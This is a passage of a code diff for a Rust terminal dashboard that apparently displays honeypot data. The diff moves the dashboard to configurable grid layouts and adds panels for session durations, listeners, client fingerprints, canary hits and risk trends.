@@ -1,151 +1,233 @@
-use anyhow::Result;
+use anyhow::{Context, Result};
 use ratatui::{
-    backend::Backend,
     layout::{Constraint, Direction, Layout, Rect},
     style::{Color, Modifier, Style},
-    text::{Line, Span, Text},
-    widgets::{Block, Borders, Cell, LineGauge, Paragraph, Row, Table, Tabs, Wrap, BarChart},
+    text::{Line, Span},
+    widgets::{Bar, BarGroup, Block, Borders, Cell, Paragraph, Row, Table, TableState, Wrap, BarChart},
     Frame,
 };
-use std::collections::HashMap;
-use chrono::{Utc, TimeZone, Duration};
+use std::collections::{HashMap, HashSet};
+use chrono::{DateTime, Utc, Duration};
 
 use crate::app::App;
-use crate::data::{EventType, Session};
+use crate::config::grid::Grid;
+use crate::core::Severity;
+use crate::config::settings::DashboardConfig;
+use crate::data::attack::attack_mapping;
+use crate::data::{ClientFingerprint, ClientStats, FileTransfer, ListenerCount, Session, StoreSnapshot};
+use crate::ui::alerts::{alert_text, AlertsView};
+use crate::ui::anonymize::Anonymizer;
+use crate::ui::columns::{Columns, WidthBucket};
+use crate::ui::sanitize::escape_controls;
+use crate::ui::components::LiveFeedWidget;
+use crate::ui::panels::{cached_title, highlight_focused, panel_areas, render_empty_state, table_rows, ForwardDestination};
+use crate::ui::theme::RiskLevel;
+use crate::ui::watchlist::watch_style;
+use crate::ui::keys::{Action, PAGE_SIZE};
+use crate::utils::helpers::sparkline;
+
+/// Captured files listed in the malware panel
+const MALWARE_PANEL_ROWS: usize = 10;
+
+/// Width of the cumulative risk sparkline in the high risk sessions panel
+const RISK_TREND_WIDTH: usize = 8;
+
+/// Most source IPs a HASSH can come from and still count as rare
+///
+/// A rare client fingerprint shared by a handful of addresses is more likely
+/// one actor's tooling than a common scanner.
+const RARE_HASSH_IPS: usize = 5;
+
+/// How the clients panel is sorted
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum ClientSort {
+    /// Most sessions first
+    #[default]
+    Sessions,
+    /// Most distinct source IPs first
+    Ips,
+    /// Highest average risk first
+    AverageRisk,
+    /// Most recently seen first
+    LastSeen,
+}
+
+impl ClientSort {
+    /// Next sort in the toggle order
+    pub fn next(self) -> Self {
+        match self {
+            ClientSort::Sessions => ClientSort::Ips,
+            ClientSort::Ips => ClientSort::AverageRisk,
+            ClientSort::AverageRisk => ClientSort::LastSeen,
+            ClientSort::LastSeen => ClientSort::Sessions,
+        }
+    }
+}
+
+impl std::fmt::Display for ClientSort {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ClientSort::Sessions => write!(f, "sessions"),
+            ClientSort::Ips => write!(f, "IPs"),
+            ClientSort::AverageRisk => write!(f, "average risk"),
+            ClientSort::LastSeen => write!(f, "last seen"),
+        }
+    }
+}
+
+/// A panel grids can place by name
+struct Panel {
+    /// Name used in grid specifications
+    name: &'static str,
+    /// Smallest area the panel is readable in (width, height)
+    min_size: (u16, u16),
+    /// Draws the panel
+    render: fn(&mut Frame, &App, Rect),
+}
+
+/// Every panel of the security dashboard
+const PANELS: &[Panel] = &[
+    Panel { name: "threat_overview", min_size: (30, 8), render: render_threat_overview },
+    Panel { name: "threat_summary", min_size: (30, 8), render: render_threat_summary },
+    Panel { name: "attack_map", min_size: (30, 6), render: render_attack_map },
+    Panel { name: "high_risk_sessions", min_size: (40, 6), render: render_high_risk_sessions },
+    Panel { name: "alerts", min_size: (40, 6), render: render_alerts_panel },
+    Panel { name: "threat_scores", min_size: (50, 8), render: render_threat_scores },
+    Panel { name: "session_durations", min_size: (50, 8), render: render_session_durations },
+    Panel { name: "listeners", min_size: (30, 8), render: render_listeners },
+    Panel { name: "clients", min_size: (50, 6), render: render_clients },
+    Panel { name: "malware", min_size: (40, 6), render: render_malware_analysis },
+    Panel { name: "time_series", min_size: (30, 10), render: render_time_series_chart },
+    Panel { name: "command_distribution", min_size: (30, 6), render: render_command_distribution },
+    Panel { name: "recon_patterns", min_size: (40, 6), render: render_recon_patterns },
+    Panel { name: "forward_destinations", min_size: (40, 6), render: render_forward_destinations },
+    Panel { name: "attack_techniques", min_size: (40, 6), render: render_attack_techniques },
+    Panel { name: "geographic_distribution", min_size: (30, 6), render: render_geographic_distribution },
+    Panel { name: "attacker_correlation", min_size: (40, 6), render: render_attacker_correlation },
+    Panel { name: "live_feed", min_size: (40, 6), render: render_live_feed },
+];
+
+/// Check that every dashboard layout only names known panels
+pub fn check_dashboard_panels(config: &DashboardConfig) -> Result<()> {
+    let layouts = config.layout_names().into_iter()
+        .map(|name| (name, config.resolve_grid(name)))
+        .chain(std::iter::once(("layout", config.grid())));
+
+    for (name, grid) in layouts {
+        let grid = grid.with_context(|| format!("Invalid dashboard layout '{}'", name))?;
+        for panel in grid.panels() {
+            if !PANELS.iter().any(|known| known.name == panel) {
+                anyhow::bail!(
+                    "Unknown panel '{}' in dashboard layout '{}'; panels are {}",
+                    panel,
+                    name,
+                    PANELS.iter().map(|known| known.name).collect::<Vec<_>>().join(", ")
+                );
+            }
+        }
+    }
+
+    Ok(())
+}
 
 /// Render the security analyst dashboard view
 pub fn render_security_dashboard(f: &mut Frame, app: &App, area: Rect) {
-    // Create dashboard layout based on the user's selected layout in config
-    let layout = app.config.dashboard.layout.as_str();
+    let dashboard = &app.config.dashboard;
+    let name = if dashboard.layout_names().contains(&dashboard.layout.as_str()) {
+        dashboard.layout.as_str()
+    } else {
+        "custom"
+    };
+    
+    let block = Block::default()
+        .title(format!("Security Dashboard - {} layout (l/L: switch, [/]: focus, z: zoom)", name))
+        .borders(Borders::ALL);
+    let area = {
+        let inner = block.inner(area);
+        f.render_widget(block, area);
+        inner
+    };
     
-    match layout {
-        "security" => render_security_focused_layout(f, app, area),
-        "analytics" => render_analytics_focused_layout(f, app, area),
-        _ => render_standard_layout(f, app, area),
+    // Layouts are checked at startup, so this only fails on a bad edit at runtime
+    match dashboard.grid() {
+        Ok(grid) => render_grid(f, app, &grid, area),
+        Err(e) => f.render_widget(
+            Paragraph::new(format!("{:#}", e)).style(Style::default().fg(Color::Red)).wrap(Wrap { trim: true }),
+            area,
+        ),
     }
 }
 
-/// Render standard security layout
-fn render_standard_layout(f: &mut Frame, app: &App, area: Rect) {
-    // Create dashboard layout
-    let chunks = Layout::default()
-        .direction(Direction::Vertical)
-        .constraints([
-            Constraint::Percentage(60),
-            Constraint::Percentage(40),
-        ].as_ref())
-        .split(area);
-    
-    // Create horizontal splits for the top section
-    let top_chunks = Layout::default()
-        .direction(Direction::Horizontal)
-        .constraints([
-            Constraint::Percentage(60),
-            Constraint::Percentage(40),
-        ].as_ref())
-        .split(chunks[0]);
-    
-    // Create horizontal splits for the bottom section
-    let bottom_chunks = Layout::default()
-        .direction(Direction::Horizontal)
-        .constraints([
-            Constraint::Percentage(50),
-            Constraint::Percentage(50),
-        ].as_ref())
-        .split(chunks[1]);
-    
-    // Render each component
-    render_threat_overview(f, app, top_chunks[0]);
-    render_attack_map(f, app, top_chunks[1]);
-    render_high_risk_sessions(f, app, bottom_chunks[0]);
-    render_alerts_panel(f, app, bottom_chunks[1]);
-}
-
-/// Render security-focused layout
-fn render_security_focused_layout(f: &mut Frame, app: &App, area: Rect) {
-    // Create dashboard layout
-    let chunks = Layout::default()
-        .direction(Direction::Vertical)
-        .constraints([
-            Constraint::Percentage(30),
-            Constraint::Percentage(40),
-            Constraint::Percentage(30),
-        ].as_ref())
-        .split(area);
-    
-    // Create horizontal splits for the top section
-    let top_chunks = Layout::default()
-        .direction(Direction::Horizontal)
-        .constraints([
-            Constraint::Percentage(60),
-            Constraint::Percentage(40),
-        ].as_ref())
-        .split(chunks[0]);
-    
-    // Create horizontal splits for the bottom section
-    let bottom_chunks = Layout::default()
-        .direction(Direction::Horizontal)
-        .constraints([
-            Constraint::Percentage(50),
-            Constraint::Percentage(50),
-        ].as_ref())
-        .split(chunks[2]);
-    
-    // Render each component
-    render_attack_map(f, app, top_chunks[0]);
-    render_threat_scores(f, app, top_chunks[1]);
-    render_high_risk_sessions(f, app, chunks[1]);
-    render_alerts_panel(f, app, bottom_chunks[0]);
-    render_malware_analysis(f, app, bottom_chunks[1]);
-}
-
-/// Render analytics-focused layout
-fn render_analytics_focused_layout(f: &mut Frame, app: &App, area: Rect) {
-    // Create dashboard layout
-    let chunks = Layout::default()
-        .direction(Direction::Vertical)
-        .constraints([
-            Constraint::Percentage(30),
-            Constraint::Percentage(40),
-            Constraint::Percentage(30),
-        ].as_ref())
-        .split(area);
+/// Split `area` by relative sizes along `direction`
+fn split_ratios(area: Rect, direction: Direction, sizes: &[u32]) -> Vec<Rect> {
+    let total = sizes.iter().sum::<u32>().max(1);
+    let constraints: Vec<Constraint> = sizes.iter().map(|size| Constraint::Ratio(*size, total)).collect();
+
+    Layout::default()
+        .direction(direction)
+        .constraints(constraints)
+        .split(area)
+        .to_vec()
+}
+
+/// Render the panels of `grid` into `area`, or only the focused one when zoomed
+fn render_grid(f: &mut Frame, app: &App, grid: &Grid, area: Rect) {
+    let mut areas = Vec::new();
+    let heights: Vec<u32> = grid.rows.iter().map(|row| row.height).collect();
+    for (row, row_area) in grid.rows.iter().zip(split_ratios(area, Direction::Vertical, &heights)) {
+        let widths: Vec<u32> = row.cells.iter().map(|cell| cell.width).collect();
+        for (cell, cell_area) in row.cells.iter().zip(split_ratios(row_area, Direction::Horizontal, &widths)) {
+            let stack = vec![1; cell.panels.len()];
+            areas.extend(split_ratios(cell_area, Direction::Vertical, &stack));
+        }
+    }
+
+    // Areas come out in the same reading order as the names
+    let names: Vec<&str> = grid.panels().collect();
+    for (index, panel_area) in panel_areas(&app.panel_focus, areas, area) {
+        render_panel(f, app, names[index], panel_area);
+        highlight_focused(f, &app.panel_focus, index, names.len(), panel_area);
+    }
+}
+
+/// Render the panel called `name`, or say why it can't be shown
+fn render_panel(f: &mut Frame, app: &App, name: &str, area: Rect) {
+    let message = match PANELS.iter().find(|panel| panel.name == name) {
+        Some(panel) if area.width >= panel.min_size.0 && area.height >= panel.min_size.1 => {
+            (panel.render)(f, app, area);
+            return;
+        }
+        Some(panel) => format!("needs {}x{}", panel.min_size.0, panel.min_size.1),
+        None => "unknown panel".to_string(),
+    };
+
+    let paragraph = Paragraph::new(message)
+        .style(Style::default().fg(Color::DarkGray))
+        .block(Block::default().title(name.to_string()).borders(Borders::ALL));
+    f.render_widget(paragraph, area);
+}
+
+/// Render the live feed of notable events
+fn render_live_feed(f: &mut Frame, app: &App, area: Rect) {
+    let block = Block::default().title("Live Feed").borders(Borders::ALL);
+    if app.live_feed.is_empty() {
+        render_empty_state(f, app, block, "notable events", 0, area);
+        return;
+    }
     
-    // Create horizontal splits for the top section
-    let top_chunks = Layout::default()
-        .direction(Direction::Horizontal)
-        .constraints([
-            Constraint::Percentage(40),
-            Constraint::Percentage(60),
-        ].as_ref())
-        .split(chunks[0]);
-    
-    // Create horizontal splits for the middle section
-    let middle_chunks = Layout::default()
-        .direction(Direction::Horizontal)
-        .constraints([
-            Constraint::Percentage(50),
-            Constraint::Percentage(50),
-        ].as_ref())
-        .split(chunks[1]);
+    let widget = LiveFeedWidget::new(&app.live_feed, &app.clock, &app.theme)
+        .block(block)
+        .anonymizer(Anonymizer::for_app(app));
     
-    // Render each component
-    render_threat_summary(f, app, top_chunks[0]);
-    render_time_series_chart(f, app, top_chunks[1]);
-    render_command_distribution(f, app, middle_chunks[0]);
-    render_geographic_distribution(f, app, middle_chunks[1]);
-    render_attacker_correlation(f, app, chunks[2]);
+    f.render_widget(widget, area);
 }
 
 /// Render the threat overview panel
 fn render_threat_overview(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
-    };
+    let store = app.store.snapshot();
     
     // Get sessions and calculate statistics
-    let sessions = store_guard.get_sessions();
+    let sessions = store.get_sessions();
     let total_sessions = sessions.len();
     
     // Count high-risk sessions
@@ -174,33 +256,60 @@ fn render_threat_overview(f: &mut Frame, app: &App, area: Rect) {
         .filter(|f| f.is_malware)
         .count();
     
+    // Count sessions that tried to cover their tracks
+    let anti_forensics = sessions.iter()
+        .filter(|s| s.tags.iter().any(|t| t == "anti-forensics"))
+        .count();
+    
+    // Count commands that touched a honeytoken
+    let canary_hits = sessions.iter()
+        .flat_map(|s| &s.commands)
+        .filter(|cmd| app.canaries.hit(cmd).is_some())
+        .count();
+    
     // Create text
+    let theme = &app.theme;
+    let high = theme.style_for_risk(RiskLevel::High);
+    // Quiet while there are none, so the first hit stands out
+    let canary_style = if canary_hits == 0 {
+        theme.style_for_risk(RiskLevel::Low)
+    } else {
+        high.add_modifier(Modifier::BOLD | Modifier::REVERSED)
+    };
     let text = vec![
         Line::from(vec![
             Span::styled("Threat Overview", Style::default().fg(Color::Yellow).add_modifier(Modifier::BOLD)),
         ]),
         Line::from(""),
         Line::from(vec![
-            Span::styled("High Risk Sessions: ", Style::default().fg(Color::Red).add_modifier(Modifier::BOLD)),
+            Span::styled(theme.risk_label(RiskLevel::High, "High Risk Sessions: "), high.add_modifier(Modifier::BOLD)),
             Span::raw(format!("{} ({}%)", high_risk_count, percentage(high_risk_count, total_sessions))),
         ]),
         Line::from(vec![
-            Span::styled("Medium Risk Sessions: ", Style::default().fg(Color::Yellow)),
+            Span::styled(theme.risk_label(RiskLevel::Medium, "Medium Risk Sessions: "), theme.style_for_risk(RiskLevel::Medium)),
             Span::raw(format!("{} ({}%)", medium_risk_count, percentage(medium_risk_count, total_sessions))),
         ]),
         Line::from(vec![
-            Span::styled("Low Risk Sessions: ", Style::default().fg(Color::Green)),
+            Span::styled(theme.risk_label(RiskLevel::Low, "Low Risk Sessions: "), theme.style_for_risk(RiskLevel::Low)),
             Span::raw(format!("{} ({}%)", low_risk_count, percentage(low_risk_count, total_sessions))),
         ]),
         Line::from(""),
         Line::from(vec![
-            Span::styled("Successful Logins: ", Style::default().fg(Color::Red)),
+            Span::styled("Successful Logins: ", high),
             Span::raw(format!("{}", successful_logins)),
         ]),
         Line::from(vec![
-            Span::styled("Malware Uploads: ", Style::default().fg(Color::Red)),
+            Span::styled("Malware Uploads: ", high),
             Span::raw(format!("{}", file_uploads)),
         ]),
+        Line::from(vec![
+            Span::styled("Anti-forensic Attempts: ", high),
+            Span::raw(format!("{}", anti_forensics)),
+        ]),
+        Line::from(vec![
+            Span::styled("Canary hits: ", high),
+            Span::styled(format!("{}", canary_hits), canary_style),
+        ]),
     ];
     
     let block = Block::default()
@@ -216,13 +325,10 @@ fn render_threat_overview(f: &mut Frame, app: &App, area: Rect) {
 
 /// Render threat summary for the analytics view
 fn render_threat_summary(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
-    };
+    let store = app.store.snapshot();
     
     // Get sessions
-    let sessions = store_guard.get_sessions();
+    let sessions = store.get_sessions();
     
     // Calculate time ranges
     let now = Utc::now();
@@ -260,6 +366,7 @@ fn render_threat_summary(f: &mut Frame, app: &App, area: Rect) {
         .count();
     
     // Create text
+    let high = app.theme.style_for_risk(RiskLevel::High);
     let text = vec![
         Line::from(vec![
             Span::styled("Threat Analytics", Style::default().fg(Color::Yellow).add_modifier(Modifier::BOLD)),
@@ -275,20 +382,20 @@ fn render_threat_summary(f: &mut Frame, app: &App, area: Rect) {
         ]),
         Line::from(""),
         Line::from(vec![
-            Span::styled("High Severity: ", Style::default().fg(Color::Red)),
+            Span::styled("High Severity: ", high),
             Span::raw(format!("{}", high_severity)),
         ]),
         Line::from(vec![
-            Span::styled("Successful Logins: ", Style::default().fg(Color::Red)),
+            Span::styled("Successful Logins: ", high),
             Span::raw(format!("{}", successful_logins)),
         ]),
         Line::from(""),
         Line::from(vec![
-            Span::styled("Files Uploaded: ", Style::default().fg(Color::Yellow)),
+            Span::styled("Files Uploaded: ", app.theme.style_for_risk(RiskLevel::Medium)),
             Span::raw(format!("{}", files_uploaded)),
         ]),
         Line::from(vec![
-            Span::styled("Malicious Files: ", Style::default().fg(Color::Red)),
+            Span::styled("Malicious Files: ", high),
             Span::raw(format!("{}", malicious_files)),
         ]),
     ];
@@ -305,7 +412,7 @@ fn render_threat_summary(f: &mut Frame, app: &App, area: Rect) {
 }
 
 /// Render the attack map
-fn render_attack_map(f: &mut Frame, app: &App, area: Rect) {
+fn render_attack_map(f: &mut Frame, _app: &App, area: Rect) {
     let block = Block::default()
         .title("Attack Map")
         .borders(Borders::ALL);
@@ -333,38 +440,72 @@ fn render_attack_map(f: &mut Frame, app: &App, area: Rect) {
 
 /// Render high risk sessions table
 fn render_high_risk_sessions(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
-    };
+    let store = app.store.snapshot();
     
     // Get sessions and sort by risk score
-    let mut sessions = store_guard.get_sessions().clone();
+    let mut sessions = store.get_sessions().clone();
     sessions.sort_by(|a, b| b.malicious_score.cmp(&a.malicious_score));
     
-    // Take top 10 risky sessions
-    let sessions = sessions.iter().take(10).collect::<Vec<_>>();
+    // Take as many risky sessions as fit
+    let sessions = sessions.iter().take(table_rows(area)).collect::<Vec<_>>();
+    let block = Block::default().title("High Risk Sessions (trend: cumulative risk per IP)").borders(Borders::ALL);
+    if sessions.is_empty() {
+        render_empty_state(f, app, block, "sessions", 0, area);
+        return;
+    }
+    let trends = risk_trends(&store.get_sessions(), sessions.iter().map(|session| session.src_ip.as_str()).collect());
     
     // Create header row
-    let header_cells = ["IP", "User", "Risk", "Activities", "Files", "Commands"]
+    let header_cells = ["IP", "User", "Risk", "Trend", "Activities", "Files", "Commands"]
         .iter()
         .map(|h| Cell::from(*h).style(Style::default().fg(Color::Yellow)));
     let header = Row::new(header_cells).height(1).bottom_margin(1);
     
+    let columns = Columns::new(area, WidthBucket::of(area).pick(
+        vec![
+            Constraint::Length(15),
+            Constraint::Min(8),
+            Constraint::Length(app.theme.risk_width()),
+            Constraint::Length(RISK_TREND_WIDTH as u16),
+            Constraint::Percentage(25),
+            Constraint::Length(5),
+            Constraint::Length(8),
+        ],
+        vec![
+            Constraint::Length(15),
+            Constraint::Percentage(20),
+            Constraint::Length(app.theme.risk_width()),
+            Constraint::Length(RISK_TREND_WIDTH as u16),
+            Constraint::Min(20),
+            Constraint::Length(5),
+            Constraint::Length(8),
+        ],
+        vec![
+            Constraint::Length(39),
+            Constraint::Percentage(20),
+            Constraint::Length(app.theme.risk_width()),
+            Constraint::Length(RISK_TREND_WIDTH as u16),
+            Constraint::Min(30),
+            Constraint::Length(5),
+            Constraint::Length(8),
+        ],
+    ), app.config.ui.max_field_width);
+    
     // Create data rows
+    let anon = Anonymizer::for_app(app);
     let rows = sessions.iter().map(|session| {
-        let username = session.user.as_ref().map_or("N/A", |user| &user.username);
-        let risk_color = match session.malicious_score {
-            score if score >= 70 => Color::Red,
-            score if score >= 30 => Color::Yellow,
-            _ => Color::Green,
-        };
+        let username = session.user.as_ref().map_or("N/A".into(), |user| {
+            columns.fit(1, &anon.credential(&user.username)).into_owned()
+        });
+        let risk_style = app.theme.style_for_score(session.malicious_score);
         
         let cells = [
-            Cell::from(session.src_ip.clone()),
+            Cell::from(columns.fit(0, &anon.ip(&session.src_ip)).into_owned()),
             Cell::from(username),
-            Cell::from(session.malicious_score.to_string()).style(Style::default().fg(risk_color)),
-            Cell::from(risk_activities(session)),
+            Cell::from(app.theme.risk_score(session.malicious_score)).style(risk_style),
+            Cell::from(trends.get(session.src_ip.as_str()).map_or_else(String::new, |trend| sparkline(trend, RISK_TREND_WIDTH)))
+                .style(risk_style),
+            Cell::from(columns.fit(4, &risk_activities(session)).into_owned()),
             Cell::from(session.files.len().to_string()),
             Cell::from(session.commands.len().to_string()),
         ];
@@ -375,73 +516,58 @@ fn render_high_risk_sessions(f: &mut Frame, app: &App, area: Rect) {
     // Create table
     let table = Table::new(rows)
         .header(header)
-        .block(Block::default().title("High Risk Sessions").borders(Borders::ALL))
-        .widths(&[
-            Constraint::Percentage(25),
-            Constraint::Percentage(15),
-            Constraint::Percentage(10),
-            Constraint::Percentage(25),
-            Constraint::Percentage(10),
-            Constraint::Percentage(15),
-        ])
+        .block(block)
+        .widths(columns.constraints())
         .highlight_style(Style::default().add_modifier(Modifier::BOLD));
     
     f.render_widget(table, area);
 }
 
-/// Render alerts panel
+/// Running total of session risk for each of `ips`, oldest session first
+///
+/// A steep sparkline over these means the address is escalating, a flat one
+/// that it stopped or only ever probed.
+fn risk_trends<'a>(sessions: &[&'a Session], ips: HashSet<&str>) -> HashMap<&'a str, Vec<u64>> {
+    let mut scored: HashMap<&str, Vec<(DateTime<Utc>, u8)>> = HashMap::new();
+    for session in sessions.iter().copied().filter(|session| ips.contains(session.src_ip.as_str())) {
+        scored.entry(session.src_ip.as_str()).or_default().push((session.start_time, session.malicious_score));
+    }
+
+    scored.into_iter()
+        .map(|(ip, mut scores)| {
+            scores.sort_by_key(|(start, _)| *start);
+            let trend = scores.iter()
+                .scan(0u64, |total, (_, score)| {
+                    *total += *score as u64;
+                    Some(*total)
+                })
+                .collect();
+            (ip, trend)
+        })
+        .collect()
+}
+
+/// Render alerts panel: the newest unacknowledged alerts, the full list being the alerts view
 fn render_alerts_panel(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
+    let history = app.alert_history.lock();
+    let anon = Anonymizer::for_app(app);
+    
+    // Newest first, and only as many as fit; the history is already in time order
+    let unacknowledged = || history.alerts().iter().rev().filter(|alert| !alert.acknowledged);
+    let shown = || unacknowledged().filter(|alert| alert.severity >= app.alert_min_severity);
+    let count = shown().count();
+    let alerts = shown().take(table_rows(area)).collect::<Vec<_>>();
+    
+    let title = match app.alert_min_severity {
+        Severity::Info => format!("Unacknowledged Alerts: {} (a: all, f: filter)", count),
+        minimum => format!("Unacknowledged Alerts: {} {} and up (a: all, f: filter)", count, minimum),
     };
-    
-    // Get sessions
-    let sessions = store_guard.get_sessions();
-    
-    // Create alerts based on suspicious activities
-    let mut alerts = Vec::new();
-    
-    for session in sessions {
-        // Alert for successful logins
-        if app.config.alert.on_successful_login && 
-           session.user.as_ref().map_or(false, |u| u.login_success) {
-            alerts.push((
-                session.start_time,
-                format!("Successful login: {} -> {}", session.src_ip, 
-                    session.user.as_ref().map_or("unknown".to_string(), |u| u.username.clone())),
-                "high"
-            ));
-        }
-        
-        // Alert for file uploads
-        if app.config.alert.on_file_upload && !session.files.is_empty() {
-            for file in &session.files {
-                alerts.push((
-                    file.timestamp,
-                    format!("File upload: {} uploaded {}", session.src_ip, file.filename),
-                    "high"
-                ));
-            }
-        }
-        
-        // Alert for specific commands
-        if !app.config.alert.on_commands.is_empty() {
-            for cmd in &session.commands {
-                if app.config.alert.on_commands.iter().any(|c| cmd.command.contains(c)) {
-                    alerts.push((
-                        cmd.timestamp,
-                        format!("Suspicious command: {} ran '{}'", session.src_ip, cmd.command),
-                        "medium"
-                    ));
-                }
-            }
-        }
+    let block = Block::default().title(title).borders(Borders::ALL);
+    if alerts.is_empty() {
+        render_empty_state(f, app, block, "alerts", unacknowledged().count(), area);
+        return;
     }
     
-    // Sort alerts by timestamp (most recent first)
-    alerts.sort_by(|a, b| b.0.cmp(&a.0));
-    
     // Create header row
     let header_cells = ["Time", "Alert", "Severity"]
         .iter()
@@ -449,44 +575,36 @@ fn render_alerts_panel(f: &mut Frame, app: &App, area: Rect) {
     let header = Row::new(header_cells).height(1).bottom_margin(1);
     
     // Create data rows
-    let rows = alerts.iter().take(10).map(|(time, message, severity)| {
-        let severity_style = match *severity {
-            "high" => Style::default().fg(Color::Red),
-            "medium" => Style::default().fg(Color::Yellow),
-            _ => Style::default().fg(Color::Green),
-        };
-        
+    let rows = alerts.iter().map(|alert| {
         let cells = [
-            Cell::from(time.format("%H:%M:%S").to_string()),
-            Cell::from(message.clone()),
-            Cell::from(*severity).style(severity_style),
+            Cell::from(app.clock.when(&alert.timestamp)),
+            Cell::from(alert_text(&anon, alert)),
+            Cell::from(app.theme.alert_label(alert.severity)).style(app.theme.style_for_alert(alert.severity)),
         ];
         
         Row::new(cells)
     });
     
     // Create table
+    let widths = [
+        Constraint::Length(app.clock.column_width() as u16),
+        Constraint::Min(20),
+        Constraint::Length(if app.theme.risk_symbols() { 10 } else { 8 }),
+    ];
     let table = Table::new(rows)
         .header(header)
-        .block(Block::default().title("Security Alerts").borders(Borders::ALL))
-        .widths(&[
-            Constraint::Percentage(15),
-            Constraint::Percentage(65),
-            Constraint::Percentage(20),
-        ]);
+        .block(block)
+        .widths(&widths);
     
     f.render_widget(table, area);
 }
 
 /// Render threat score distribution
 fn render_threat_scores(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
-    };
+    let store = app.store.snapshot();
     
     // Get sessions and count risk categories
-    let sessions = store_guard.get_sessions();
+    let sessions = store.get_sessions();
     
     let mut risk_categories = [0; 5];
     for session in sessions {
@@ -509,25 +627,12 @@ fn render_threat_scores(f: &mut Frame, app: &App, area: Rect) {
         ("Info", risk_categories[4]),
     ];
     
-    let max_value = *risk_categories.iter().max().unwrap_or(&1);
-    
     // Create bar chart data
     let bar_data: Vec<(&str, u64)> = data
         .iter()
         .map(|(name, count)| (*name, *count as u64))
         .collect();
     
-    // Create color mapping
-    let bar_style = |i| {
-        match i {
-            0 => Style::default().fg(Color::Red),
-            1 => Style::default().fg(Color::LightRed),
-            2 => Style::default().fg(Color::Yellow),
-            3 => Style::default().fg(Color::Green),
-            _ => Style::default().fg(Color::Blue),
-        }
-    };
-    
     // Create bar chart
     let barchart = BarChart::default()
         .block(Block::default().title("Threat Score Distribution").borders(Borders::ALL))
@@ -541,23 +646,204 @@ fn render_threat_scores(f: &mut Frame, app: &App, area: Rect) {
     f.render_widget(barchart, area);
 }
 
-/// Render malware analysis panel
-fn render_malware_analysis(f: &mut Frame, app: &App, area: Rect) {
-    let store_guard = match app.store.try_read() {
-        Ok(guard) => guard,
-        Err(_) => return,
-    };
+/// Render session duration distribution
+///
+/// Sub-second sessions are almost always scanners, while sessions lasting
+/// minutes usually have someone at the keyboard. Sessions still open have no
+/// duration yet and are counted as ongoing.
+fn render_session_durations(f: &mut Frame, app: &App, area: Rect) {
+    let store = app.store.snapshot();
+    
+    let mut buckets = [0u64; 6];
+    for session in store.get_sessions() {
+        let bucket = match session.duration {
+            Some(0) => 0,
+            Some(secs) if secs < 10 => 1,
+            Some(secs) if secs < 60 => 2,
+            Some(secs) if secs < 300 => 3,
+            Some(_) => 4,
+            None => 5,
+        };
+        buckets[bucket] += 1;
+    }
     
-    // Get all files from all sessions
-    let mut files = Vec::new();
-    for session in store_guard.get_sessions() {
-        for file in &session.files {
-            files.push((session.src_ip.clone(), file.clone()));
+    let bar_data = [
+        ("<1s", buckets[0]),
+        ("1-10s", buckets[1]),
+        ("10-60s", buckets[2]),
+        ("1-5m", buckets[3]),
+        (">5m", buckets[4]),
+        ("ongoing", buckets[5]),
+    ];
+    
+    let barchart = BarChart::default()
+        .block(Block::default().title("Session Durations").borders(Borders::ALL))
+        .data(&bar_data)
+        .bar_width(7)
+        .bar_gap(1)
+        .bar_style(Style::default().fg(Color::Cyan))
+        .value_style(Style::default().fg(Color::Black).bg(Color::Cyan).add_modifier(Modifier::BOLD))
+        .label_style(Style::default().fg(Color::White));
+    
+    f.render_widget(barchart, area);
+}
+
+/// Listeners (destination ports) by sessions, busiest first
+fn listeners(store: &StoreSnapshot) -> Vec<(u16, &ListenerCount)> {
+    let mut listeners = store.get_listener_counts()
+        .iter()
+        .map(|(port, count)| (*port, count))
+        .collect::<Vec<_>>();
+    listeners.sort_by(|a, b| b.1.sessions.cmp(&a.1.sessions).then(a.0.cmp(&b.0)));
+    listeners
+}
+
+/// Bar color for a listener's protocol
+fn protocol_color(protocol: &str) -> Color {
+    match protocol {
+        "SSH" => Color::Cyan,
+        "Telnet" => Color::Magenta,
+        _ => Color::Gray,
+    }
+}
+
+/// Render sessions per honeypot listener, colored by protocol
+///
+/// Counts come from the store's running tally, so they include pruned
+/// sessions. When the panel is focused, Enter on a bar filters the sessions
+/// tab to that port.
+fn render_listeners(f: &mut Frame, app: &App, area: Rect) {
+    let store = app.store.snapshot();
+    let listeners = listeners(&store);
+    
+    let block = Block::default().title("Listeners (SSH cyan, Telnet magenta)").borders(Borders::ALL);
+    if listeners.is_empty() {
+        render_empty_state(f, app, block, "sessions", 0, area);
+        return;
+    }
+    
+    let focused = focused_panel(app).as_deref() == Some("listeners");
+    let selected = app.selected_listener.min(listeners.len() - 1);
+    let bars = listeners.iter().enumerate().map(|(index, (port, listener))| {
+        let mut style = Style::default().fg(protocol_color(&listener.protocol));
+        if focused && index == selected {
+            style = style.add_modifier(Modifier::REVERSED);
         }
+        Bar::default()
+            .value(listener.sessions)
+            .label(Line::from(port.to_string()))
+            .style(style)
+    }).collect::<Vec<_>>();
+    
+    let barchart = BarChart::default()
+        .block(block)
+        .data(BarGroup::default().bars(&bars))
+        .bar_width(6)
+        .bar_gap(1)
+        .value_style(Style::default().fg(Color::Black).bg(Color::White).add_modifier(Modifier::BOLD))
+        .label_style(Style::default().fg(Color::White));
+    
+    f.render_widget(barchart, area);
+}
+
+/// Client fingerprints ordered by `sort`, ties broken by sessions and then the fingerprint
+fn clients(store: &StoreSnapshot, sort: ClientSort) -> Vec<(&ClientFingerprint, &ClientStats)> {
+    let mut clients = store.get_client_stats().iter().collect::<Vec<_>>();
+    clients.sort_by(|a, b| {
+        let primary = match sort {
+            ClientSort::Sessions => b.1.sessions.cmp(&a.1.sessions),
+            ClientSort::Ips => b.1.ips.len().cmp(&a.1.ips.len()),
